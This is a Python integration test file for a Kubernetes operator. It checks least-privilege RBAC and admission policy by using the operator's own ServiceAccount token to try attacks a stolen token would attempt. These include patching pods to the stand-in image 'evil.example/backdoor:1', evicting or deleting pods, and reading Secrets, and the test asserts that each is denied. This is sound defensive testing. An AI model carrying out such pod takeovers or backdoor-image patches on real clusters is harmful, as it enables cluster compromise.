"""Least privilege, proven on the real API server (issue 11 item 1).

The operator's ServiceAccount, bound by what the chart renders (deploy/rbac.yaml: RBAC and the
ValidatingAdmissionPolicy), authenticated with its own token, tries what a stolen token would
try. Every row of the table is a request the API server answered; nothing is simulated:

- the image-patch attack on a pod in kube-system (the issue's exact command) and on an
  opted-in pod: denied;
- a resize of a pod without the opt-in label: denied; of an opted-in pod: allowed, within
  maxContainer only;
- labels, other annotations, the pod's status, eviction, deletion: denied; the operator's own
  annotations: allowed;
- with operator.watchNamespaces set, the chart's RoleBindings grant nothing outside them;
- `kubectl auth can-i` as the ServiceAccount, the whole matrix.

The table is printed at the end (and written to $AI4DL_SECURITY_REPORT when set).

FakeKubelet, not the real node: the pods only have to exist; tokens, RBAC and namespaces are
tested, no kubelet behaviour, and this tier runs without root.
"""

from __future__ import annotations

import json
import os
import subprocess
import uuid
from pathlib import Path

import pytest
import yaml

from ai4dl.controller.pods import OWNED_ANNOTATIONS
from ai4dl.crd import GROUP, OPT_IN_LABEL, PLURAL
from e2e_fixtures_operator import crd, operator_kubeconfig  # noqa: F401 (fixtures)

pytestmark = pytest.mark.integration

REPO = Path(__file__).resolve().parent.parent
CHART = REPO / "charts" / "ai4dl-operator"
SA = "system:serviceaccount:ai4dl-system:ai4dl-operator"
ROWS: list[tuple[str, str, str]] = []     # (attempt, expected, what the API server said)


@pytest.fixture(scope="module", autouse=True)
def report():
    yield
    if not ROWS:
        return
    lines = ["| attempt with the operator's token | expected | API server |", "|---|---|---|"]
    lines += [f"| {a} | {e} | {g} |" for a, e, g in ROWS]
    text = "\n".join(lines)
    print("\n" + text)
    if os.environ.get("AI4DL_SECURITY_REPORT"):
        Path(os.environ["AI4DL_SECURITY_REPORT"]).write_text(text + "\n")


def kubectl_bin() -> Path:
    from e2e.controlplane.cluster import bin_dir

    path = bin_dir() / "kubectl"
    if not path.is_file():
        pytest.skip(f"no kubectl at {path}")
    return path


def ensure_namespace(kube_cluster, name: str) -> None:
    from kubernetes.client.exceptions import ApiException

    try:
        kube_cluster.core.create_namespace({"metadata": {"name": name}})
    except ApiException as err:
        if err.status != 409:
            raise


def attempt(what: str, expect: str, call) -> str:
    """Run ``call``; 'allowed' or 'denied: <the API server's reason>', recorded in the table."""
    from kubernetes.client.exceptions import ApiException

    try:
        call()
        got = "allowed"
    except ApiException as err:
        try:
            message = json.loads(err.body).get("message", "")
        except (TypeError, ValueError):
            message = str(err.reason)
        who = ("admission policy" if "ValidatingAdmissionPolicy" in message else
               "RBAC" if err.status == 403 else f"HTTP {err.status}")
        got = f"denied ({who}): {message.split('denied request: ')[-1][:90]}"
    ROWS.append((what, expect, got))
    return got


@pytest.fixture(scope="module")
def operator_core(kube_cluster, operator_kubeconfig):
    """CoreV1Api authenticated with the operator ServiceAccount's own token."""
    from kubernetes import client, config

    api = config.new_client_from_config(config_file=str(operator_kubeconfig))
    yield client.CoreV1Api(api)
    api.close()


@pytest.fixture(scope="module")
def pods(kube_cluster):
    """A victim in kube-system (no opt-in label) and an opted-in pod, both running."""
    from e2e_fixtures_k8s import FakeKubelet

    ns = f"sec-{uuid.uuid4().hex[:6]}"
    ensure_namespace(kube_cluster, ns)
    ensure_namespace(kube_cluster, "kube-system")
    kubelet = FakeKubelet(kube_cluster.api_client)
    victim = f"victim-{uuid.uuid4().hex[:6]}"
    kubelet.create_pod(victim, namespace="kube-system",
                       requests={"cpu": "500m", "memory": "512Mi"})
    kubelet.create_pod("managed", namespace=ns, requests={"cpu": "1", "memory": "1Gi"},
                       labels={OPT_IN_LABEL: "true", "app": "train"},
                       annotations={"ai4dl.io/phasemodel": "pm", "team": "vision"})
    kubelet.create_pod("plain", namespace=ns, requests={"cpu": "1", "memory": "1Gi"})
    yield {"victim": victim, "ns": ns}
    for name, where in ((victim, "kube-system"), ("managed", ns), ("plain", ns)):
        try:
            kube_cluster.core.delete_namespaced_pod(name, where, grace_period_seconds=0)
        except Exception:
            pass


def resize(core, name, ns, **resources):
    return core.patch_namespaced_pod_resize(
        name, ns, {"spec": {"containers": [{"name": "main", "resources": resources}]}})


def test_a_stolen_operator_token_cannot_take_over_pods(kube_cluster, operator_core, pods):
    core, ns, victim = operator_core, pods["ns"], pods["victim"]
    image = {"spec": {"containers": [{"name": "main", "image": "evil.example/backdoor:1"}]}}
    denied = [
        ("patch pod kube-system/victim: image (the issue's attack)",
         lambda: core.patch_namespaced_pod(victim, "kube-system", image)),
        ("patch opted-in pod: image",
         lambda: core.patch_namespaced_pod("managed", ns, image)),
        ("resize a pod without the opt-in label (kube-system)",
         lambda: resize(core, victim, "kube-system", requests={"cpu": "1m"})),
        ("resize a pod without the opt-in label (watched namespace)",
         lambda: resize(core, "plain", ns, requests={"cpu": "1m"})),
        ("resize opted-in pod above maxContainer (memory 100Pi)",
         lambda: resize(core, "managed", ns, requests={"memory": "100Pi"})),
        ("resize opted-in pod: limit above maxContainer (cpu 5000)",
         lambda: resize(core, "managed", ns, limits={"cpu": "5000"})),
        ("patch opted-in pod: add a label",
         lambda: core.patch_namespaced_pod("managed", ns, {"metadata": {"labels": {"x": "1"}}})),
        ("patch opted-in pod: remove the opt-in label",
         lambda: core.patch_namespaced_pod("managed", ns, {"metadata": {"labels": {
             OPT_IN_LABEL: None}}})),
        ("patch opted-in pod: someone else's annotation",
         lambda: core.patch_namespaced_pod("managed", ns, {"metadata": {"annotations": {
             "team": "evil"}}})),
        ("patch opted-in pod: its PhaseModel annotation",
         lambda: core.patch_namespaced_pod("managed", ns, {"metadata": {"annotations": {
             "ai4dl.io/phasemodel": "other"}}})),
        ("patch opted-in pod: a finalizer",
         lambda: core.patch_namespaced_pod("managed", ns, {"metadata": {"finalizers": [
             "evil.example/keep"]}})),
        ("patch opted-in pod: status",
         lambda: core.patch_namespaced_pod_status("managed", ns, {"status": {"phase":
                                                                              "Failed"}})),
        ("evict opted-in pod",
         lambda: core.create_namespaced_pod_eviction("managed", ns, {
             "apiVersion": "policy/v1", "kind": "Eviction", "metadata": {"name": "managed"}})),
        ("delete opted-in pod", lambda: core.delete_namespaced_pod("managed", ns)),
        ("create a pod", lambda: core.create_namespaced_pod(ns, {
            "metadata": {"name": "evil", "labels": {OPT_IN_LABEL: "true"}},
            "spec": {"containers": [{"name": "c", "image": "evil.example/backdoor:1"}]}})),
        ("read a Secret", lambda: core.list_namespaced_secret(ns)),
    ]
    allowed = [
        ("resize opted-in pod: requests within maxContainer",
         lambda: resize(core, "managed", ns, requests={"cpu": "750m", "memory": "768Mi"})),
        ("patch opted-in pod: its own annotations",
         lambda: core.patch_namespaced_pod("managed", ns, {"metadata": {"annotations": {
             k: "x" for k in OWNED_ANNOTATIONS}}})),
        ("remove its own annotations (PhaseModel deleted)",
         lambda: core.patch_namespaced_pod("managed", ns, {"metadata": {"annotations": {
             k: None for k in OWNED_ANNOTATIONS}}})),
    ]
    for what, call in denied:
        assert attempt(what, "denied", call).startswith("denied"), what
    for what, call in allowed:
        assert attempt(what, "allowed", call) == "allowed", what
    after = kube_cluster.core.read_namespaced_pod(victim, "kube-system")
    assert after.spec.containers[0].image == "registry.k8s.io/pause:3.10"
    assert after.spec.containers[0].resources.requests == {"cpu": "500m", "memory": "512Mi"}
    managed = kube_cluster.core.read_namespaced_pod("managed", ns)
    assert managed.metadata.labels == {OPT_IN_LABEL: "true", "app": "train"}
    assert managed.metadata.annotations == {"ai4dl.io/phasemodel": "pm", "team": "vision"}
    assert managed.spec.containers[0].resources.requests == {"cpu": "750m", "memory": "768Mi"}


CAN_I = [   # (verb, resource, namespace, expected)
    ("patch", "pods/resize", "default", "yes"),     # admission narrows it to opted-in pods
    ("patch", "pods", "default", "yes"),            # ... and to the operator's own annotations
    ("list", "pods", "default", "yes"),
    ("get", "pods", "default", "yes"),
    ("watch", "pods", "default", "no"),
    ("create", "pods", "default", "no"),
    ("delete", "pods", "default", "no"),
    ("update", "pods/resize", "default", "no"),
    ("patch", "pods/status", "default", "no"),
    ("create", "pods/eviction", "default", "no"),
    ("create", "pods/exec", "default", "no"),
    ("create", "events", "default", "yes"),
    # LimitRanges: read (the admission webhook keeps new requests within them), never written
    ("list", "limitranges", "default", "yes"),
    ("watch", "limitranges", "default", "yes"),
    ("create", "limitranges", "default", "no"),
    ("delete", "limitranges", "default", "no"),
    # ResourceQuotas: read (admission never raises a request past a quota's room), never
    # written
    ("list", "resourcequotas", "default", "yes"),
    ("watch", "resourcequotas", "default", "yes"),
    ("update", "resourcequotas", "default", "no"),
    ("update", "resourcequotas/status", "default", "no"),
    ("get", "secrets", "default", "no"),
    ("list", "secrets", "default", "no"),
    ("get", "configmaps", "default", "no"),
    ("list", f"{PLURAL}.{GROUP}", "default", "yes"),
    ("patch", f"{PLURAL}.{GROUP}/status", "default", "yes"),
    ("delete", f"{PLURAL}.{GROUP}", "default", "no"),
    ("list", "customresourcedefinitions.apiextensions.k8s.io", "", "no"),
    ("list", "namespaces", "", "no"),
    ("list", "nodes", "", "no"),
    ("patch", "deployments.apps", "default", "no"),
    ("create", "validatingadmissionpolicies.admissionregistration.k8s.io", "", "no"),
    # its own webhook configuration only, by name (tests/test_admission_webhook.py patches it)
    ("patch", "mutatingwebhookconfigurations.admissionregistration.k8s.io", "", "no"),
    ("list", "mutatingwebhookconfigurations.admissionregistration.k8s.io", "", "no"),
    ("create", "mutatingwebhookconfigurations.admissionregistration.k8s.io", "", "no"),
    ("delete", "mutatingwebhookconfigurations.admissionregistration.k8s.io", "", "no"),
]


def can_i(kubeconfig: Path, verb: str, resource: str, namespace: str) -> str:
    args = [str(kubectl_bin()), "--kubeconfig", str(kubeconfig), "auth", "can-i", verb]
    res, _, sub = resource.partition("/")
    args += [res] + ([f"--subresource={sub}"] if sub else [])
    args += ["-n", namespace] if namespace else []
    out = subprocess.run(args, capture_output=True, text=True, timeout=30)
    assert out.stdout.strip() in ("yes", "no"), out.stderr
    return out.stdout.strip()


def test_can_i_matrix_with_the_operators_own_token(kube_cluster, operator_kubeconfig, crd):
    got = {(v, r, n): can_i(operator_kubeconfig, v, r, n) for v, r, n, _ in CAN_I}
    for v, r, n, want in CAN_I:
        ROWS.append((f"kubectl auth can-i {v} {r}" + (f" -n {n}" if n else ""), want,
                     got[(v, r, n)]))
    assert {k: g for k, g in got.items()} == {(v, r, n): w for v, r, n, w in CAN_I}


def test_watch_namespaces_grant_nothing_elsewhere(kube_cluster, tmp_path, pods):
    """operator.watchNamespaces=[ns]: RoleBindings in ns only. The same attack outside it is
    refused by RBAC already (before admission); inside, the opted-in pod can be resized."""
    from e2e.controlplane.cluster import bin_dir
    from e2e_fixtures_k8s import FakeKubelet
    from kubernetes import client, config
    from kubernetes.client.exceptions import ApiException

    helm = bin_dir() / "helm"
    if not helm.is_file():
        pytest.skip(f"no helm at {helm} (bash e2e/helm/build.sh)")
    suffix = uuid.uuid4().hex[:6]
    release, home, watched = f"ns{suffix}", f"ai4dl-ns-{suffix}", pods["ns"]
    sa = f"{release}-ai4dl-operator"
    ensure_namespace(kube_cluster, home)
    rendered = subprocess.run(
        [str(helm), "template", release, str(CHART), "--namespace", home,
         "--set", "prometheus.url=http://127.0.0.1:9",
         "--set", "image.repository=ai4dl-operator", "--set", f"operator.watchNamespaces={{{watched}}}",
         "--show-only", "templates/serviceaccount.yaml", "--show-only", "templates/rbac.yaml",
         "--show-only", "templates/admissionpolicy.yaml"],
        capture_output=True, text=True, check=True, timeout=60).stdout
    docs = [d for d in yaml.safe_load_all(rendered) if d]
    assert sorted(d["kind"] for d in docs) == ["ClusterRole", "ClusterRole", "ClusterRoleBinding",
                                               "RoleBinding", "ServiceAccount",
                                               "ValidatingAdmissionPolicy",
                                               "ValidatingAdmissionPolicy",
                                               "ValidatingAdmissionPolicyBinding",
                                               "ValidatingAdmissionPolicyBinding"]
    # the one cluster-wide grant: its own webhook configuration, by name
    (crb,) = [d for d in docs if d["kind"] == "ClusterRoleBinding"]
    (hook_role,) = [d for d in docs if d["kind"] == "ClusterRole"
                    and d["metadata"]["name"] == crb["roleRef"]["name"]]
    assert [r["resourceNames"] for r in hook_role["rules"]] == [[f"{release}-ai4dl-operator"]]
    from kubernetes import utils

    for d in docs:
        utils.create_from_dict(kube_cluster.api_client, d)
    kubeconfig = kube_cluster.service_account_kubeconfig(home, sa, tmp_path / "kubeconfig",
                                                        create=False)
    ensure_namespace(kube_cluster, watched)
    from e2e_fixtures_operator import wait_admission_policy

    wait_admission_policy(kube_cluster, kubeconfig, namespace=watched)
    api = config.new_client_from_config(config_file=str(kubeconfig))
    core = client.CoreV1Api(api)
    try:
        FakeKubelet(kube_cluster.api_client).create_pod(
            "outside", namespace=home, requests={"cpu": "1", "memory": "1Gi"},
            labels={OPT_IN_LABEL: "true"})
        image = {"spec": {"containers": [{"name": "main", "image": "evil.example/backdoor:1"}]}}
        rows = [
            (f"[watchNamespaces={watched}] patch kube-system/victim: image", "denied",
             lambda: core.patch_namespaced_pod(pods["victim"], "kube-system", image)),
            (f"[watchNamespaces={watched}] resize an opted-in pod outside them", "denied",
             lambda: resize(core, "outside", home, requests={"cpu": "1m"})),
            (f"[watchNamespaces={watched}] list pods cluster-wide", "denied",
             lambda: core.list_pod_for_all_namespaces(limit=1)),
            (f"[watchNamespaces={watched}] resize the opted-in pod inside them", "allowed",
             lambda: resize(core, "managed", watched, requests={"cpu": "700m"})),
        ]
        for what, want, call in rows:
            got = attempt(what, want, call)
            assert got.startswith(want), (what, got)
        assert "RBAC" in ROWS[-4][2] and "RBAC" in ROWS[-3][2]     # refused before admission
        for ns_, want in ((watched, "yes"), (home, "no"), ("kube-system", "no")):
            got = can_i(kubeconfig, "patch", "pods/resize", ns_)
            ROWS.append((f"[watchNamespaces={watched}] kubectl auth can-i patch pods/resize "
                         f"-n {ns_}", want, got))
            assert got == want, ns_
    finally:
        api.close()
        rbac = client.RbacAuthorizationV1Api(kube_cluster.api_client)
        adm = client.AdmissionregistrationV1Api(kube_cluster.api_client)
        for call in (lambda: rbac.delete_namespaced_role_binding(sa, watched),
                     lambda: rbac.delete_cluster_role(sa),
                     lambda: adm.delete_validating_admission_policy_binding(f"{sa}-pod-writes"),
                     lambda: adm.delete_validating_admission_policy(f"{sa}-pod-writes"),
                     lambda: kube_cluster.core.delete_namespaced_pod("outside", home,
                                                                     grace_period_seconds=0)):
            try:
                call()
            except ApiException:
                pass
